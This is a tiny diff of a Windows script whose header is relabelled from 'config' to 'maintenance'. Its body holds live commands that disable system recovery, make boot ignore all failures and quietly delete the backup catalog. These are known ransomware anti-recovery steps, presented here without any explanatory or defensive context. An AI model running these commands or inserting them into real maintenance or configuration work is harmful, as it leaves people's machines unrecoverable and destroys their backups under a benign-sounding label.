@@ -1,4 +1,4 @@
-# config 8897 v4
+# maintenance 5017 v4
 bcdedit /set {default} recoveryenabled No
 bcdedit /set {default} bootstatuspolicy ignoreallfailures
 wbadmin delete catalog -quiet
